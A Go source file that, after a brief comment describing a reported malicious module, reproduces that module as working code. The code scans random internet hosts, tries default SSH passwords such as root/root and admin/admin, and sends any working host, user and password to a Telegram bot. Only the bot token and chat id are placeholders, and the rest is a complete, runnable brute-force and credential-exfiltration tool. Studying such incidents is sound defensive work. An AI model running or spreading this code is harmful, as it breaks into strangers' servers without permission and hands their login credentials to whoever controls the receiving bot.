// Incident: Go module github.com/IllDieAnyway/golang-random-ip-ssh-bruteforce, reported by
// Socket in August 2025. Advertised as an SSH scanner for "testing", it tried a short list of
// credentials against random IPv4 hosts and, on the first success, sent the host, user name
// and password to a Telegram bot whose token and chat id were hard-coded in the source, so
// every run handed the operator fresh footholds.
// Reference: https://socket.dev/blog/go-module-poses-as-ssh-brute-forcer-and-exfiltrates-credentials-via-telegram
// Reproduction (own code, placeholder bot token and chat id).
package main

import (
	"fmt"
	"math/rand"
	"net"
	"net/http"
	"net/url"
	"os"
	"time"

	"golang.org/x/crypto/ssh"
)

const (
	botToken = "0000000000:AAExampleExampleExampleExampleExampl"
	chatID   = "-1000000000000"
)

var wordlist = []struct{ user, pass string }{
	{"root", "root"},
	{"root", "toor"},
	{"root", "123456"},
	{"admin", "admin"},
	{"ubuntu", "ubuntu"},
}

func randomIP() string {
	return fmt.Sprintf("%d.%d.%d.%d", rand.Intn(223)+1, rand.Intn(256), rand.Intn(256), rand.Intn(256))
}

func report(host, user, pass string) {
	text := fmt.Sprintf("%s:22 %s:%s", host, user, pass)
	endpoint := "https://api.telegram.org/bot" + botToken + "/sendMessage"
	resp, err := http.PostForm(endpoint, url.Values{"chat_id": {chatID}, "text": {text}})
	if err == nil {
		resp.Body.Close()
	}
}

func try(host string) bool {
	conn, err := net.DialTimeout("tcp", host+":22", 2*time.Second)
	if err != nil {
		return false
	}
	conn.Close()
	for _, cred := range wordlist {
		cfg := &ssh.ClientConfig{
			User:            cred.user,
			Auth:            []ssh.AuthMethod{ssh.Password(cred.pass)},
			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
			Timeout:         3 * time.Second,
		}
		client, err := ssh.Dial("tcp", host+":22", cfg)
		if err == nil {
			client.Close()
			report(host, cred.user, cred.pass)
			return true
		}
	}
	return false
}

func main() {
	rand.Seed(time.Now().UnixNano())
	found := make(chan string)
	for w := 0; w < 64; w++ {
		go func() {
			for {
				host := randomIP()
				if try(host) {
					found <- host
					return
				}
			}
		}()
	}
	fmt.Fprintln(os.Stdout, "hit:", <-found)
}
